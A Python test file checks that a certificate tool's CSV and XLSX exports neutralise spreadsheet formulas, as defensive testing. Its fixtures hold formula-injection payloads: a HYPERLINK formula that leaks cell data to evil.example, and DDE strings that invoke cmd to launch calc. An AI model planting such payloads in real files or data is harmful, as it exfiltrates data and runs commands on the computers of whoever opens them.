"""Exports never carry a live formula: CSV cells that a spreadsheet would evaluate get an apostrophe, XLSX cells
are explicit strings — in `certbridge export` and the console's export (a background job) — and our own CSV export re-imports unchanged."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile

from openpyxl import load_workbook
from typer.testing import CliRunner

from certbridge.cli.main import app as cli_app
from certbridge.kit.uscc import generate_uscc
from tests.web.conftest import follow_job, post_form, sign_in
from tests.world import certificate_payload

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
EVIL_SCOPE = "+cmd|' /C calc'!A0"
EVIL_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_SCOPE_EN = "-2+3+cmd|' /C calc'!A0"


def _cli(settings, *args):
    env = {"CERTBRIDGE_DATA_DIR": str(settings.data_dir), "CERTBRIDGE_DATABASE_URL": settings.database_url,
           "CERTBRIDGE_LANG": "en", "COLUMNS": "200"}
    return CliRunner().invoke(cli_app, [str(a) for a in args], env=env)


def _issue_evil(client, world, number="EVIL-001"):
    payload = certificate_payload(world, number=number, scope=EVIL_SCOPE, scope_en=EVIL_SCOPE_EN)
    payload["holder"] = {"name": EVIL_NAME, "uscc": generate_uscc(random.Random(7), region="450502"),
                         "address": EVIL_ADDRESS}
    r = client.post(f"/api/v1/bodies/{world.ids['body_a']}/certificates", headers=world.auth("cb_a"), json=payload)
    assert r.status_code == 201, r.text


def _no_formula_in(xlsx: bytes, expected: dict[str, str]) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets), "a cell was written as a formula"
    sheet = load_workbook(io.BytesIO(xlsx)).active
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2])}
    for column, value in expected.items():
        assert row[column].data_type == "s" and row[column].value == value  # the value itself, as text


def test_cli_xlsx_export_writes_text_never_formulas(client, world, settings, tmp_path):
    _issue_evil(client, world)
    out = tmp_path / "x.xlsx"
    result = _cli(settings, "export", out)
    assert result.exit_code == 0, result.output
    _no_formula_in(out.read_bytes(), {"holder_name": EVIL_NAME, "scope": EVIL_SCOPE, "holder_address": EVIL_ADDRESS,
                                      "scope_en": EVIL_SCOPE_EN})


def test_cli_csv_export_neutralizes_formula_cells_and_reimports_unchanged(client, world, settings, tmp_path):
    _issue_evil(client, world)
    out = tmp_path / "x.csv"
    assert _cli(settings, "export", out).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    row = next(r for r in rows if r["number"] == "EVIL-001")
    assert row["holder_name"] == "'" + EVIL_NAME
    assert row["scope"] == "'" + EVIL_SCOPE and row["holder_address"] == "'" + EVIL_ADDRESS
    assert row["scope_en"] == "'" + EVIL_SCOPE_EN
    assert row["issued_on"] == "2025-03-01"  # ordinary cells untouched
    r = client.post(f"/api/v1/bodies/{world.ids['body_a']}/certificates/import", headers=world.auth("cb_a"),
                    files={"file": ("x.csv", out.read_bytes())})
    assert r.status_code == 200, r.text
    assert r.json()["unchanged"] == len(rows) and r.json()["created"] == 0  # the apostrophe is not taken as data


def test_console_xlsx_export_writes_text_never_formulas(client, world):
    _issue_evil(client, world)
    assert sign_in(client, "cb_a").status_code == 303
    page = follow_job(client, post_form(client, "/cb", "/cb/export"))
    r = client.get(re.search(r'href="(/jobs/\d+/file)"', page.text).group(1))
    assert r.status_code == 200
    _no_formula_in(r.content, {"holder_name": EVIL_NAME, "scope": EVIL_SCOPE})
